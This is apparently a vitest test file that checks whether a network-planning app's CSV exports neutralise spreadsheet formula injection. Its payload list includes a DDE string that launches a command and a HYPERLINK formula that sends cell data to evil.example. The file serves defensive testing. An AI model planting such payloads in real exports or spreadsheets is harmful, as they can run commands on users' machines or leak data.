import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_BOUNDARY, buildTestApp, type TestApp } from '../helpers/app.ts';
import { TEST_DATABASES } from '../helpers/databases.ts';
import { multipartBody } from './helpers/route-fuzz.ts';

/** Text a spreadsheet would run as a formula (OWASP "CSV Injection"), as users might type or import it. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+SUM(1+1)',
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const FORMULA_START = /^[=+\-@\t\r]/;

/** Cells of a parsed CSV that a spreadsheet would evaluate: formula-like and not a plain number. */
function dangerousCells(csv: string): string[] {
  const rows = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: false }) as string[][];
  return rows.flat().filter((cell) => FORMULA_START.test(cell) && !/^[+-]?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell));
}

/**
 * Formula injection through the CSV exports: names, codes, addresses and notes that start with
 * = + - @ TAB or CR come out prefixed with an apostrophe, whether they were typed through the API or
 * imported from a file; negative numbers stay numbers.
 */
describe.each(TEST_DATABASES)('CSV exports neutralise formulas on $name', (target) => {
  let t: TestApp;
  beforeAll(async () => {
    t = await buildTestApp(target);
    const post = async (url: string, payload: unknown) => {
      const res = await t.app.inject({ method: 'POST', url, payload: payload as object });
      expect(res.statusCode, res.body).toBe(201);
    };
    await post('/api/v1/areas', { code: 'inj', name: FORMULAS[0], boundary: TEST_BOUNDARY });
    for (const [i, text] of FORMULAS.entries()) {
      await post('/api/v1/areas/inj/sites', {
        code: `S${i}`,
        name: text,
        lon: 124.85,
        lat: 46.65,
        address: text,
        note: text,
        cells: [{ code: `G${i}`, technology: 'GSM', frequencyMhz: 950, heightM: 35, azimuthDeg: 0, tiltDeg: -2, powerDbm: 43 }],
      });
      await post('/api/v1/areas/inj/reports', {
        externalId: `R${i}`,
        lon: 124.86,
        lat: 46.66,
        kind: 'other',
        source: 'callback',
        reportedAt: '2006-05-01T08:00:00Z',
        address: text,
        note: text,
      });
    }
    await post('/api/v1/areas/inj/candidates', { code: 'K1', name: '+cmd|x', lon: 124.82, lat: 46.62, technology: 'GSM', note: '=1+1' });
    const csv = `external_id,lon,lat,kind,source,reported_at,address,note\n"=IMPORTED",124.862,46.662,weak-signal,callback,2006-05-01T08:00:00Z,${'"=HYPERLINK(""http://x"")"'},"@note"\n`;
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/v1/areas/inj/imports',
      ...multipartBody([
        { name: 'kind', value: 'reports' },
        { name: 'file', fileName: 'r.csv', content: Buffer.from(csv) },
      ]),
    });
    expect(res.statusCode, res.body).toBe(200);
  });
  afterAll(async () => t?.close());

  for (const layer of ['sites', 'cells', 'reports', 'candidates']) {
    it(`prefixes formula-like text in ${layer}.csv and keeps negative numbers`, async () => {
      const res = await t.app.inject({ method: 'GET', url: `/api/v1/areas/inj/exports/${layer}.csv` });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/text\/csv/);
      expect(dangerousCells(res.body)).toEqual([]);
      const cells = (parse(res.body.replace(/^\uFEFF/, '')) as string[][]).flat();
      const expected = {
        candidates: ["'+cmd|x", "'=1+1"],
        cells: ["'=cmd|' /C calc'!A0", "'+SUM(1+1)"],
        sites: ["'=cmd|' /C calc'!A0", "'-2+3+cmd|x", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1"],
        reports: ["'-2+3+cmd|x", "'=IMPORTED", `'=HYPERLINK("http://x")`, "'@note"],
      }[layer]!;
      expect(cells).toEqual(expect.arrayContaining(expected));
      if (layer === 'cells') expect(cells).toContain('-2');
    });
  }
});
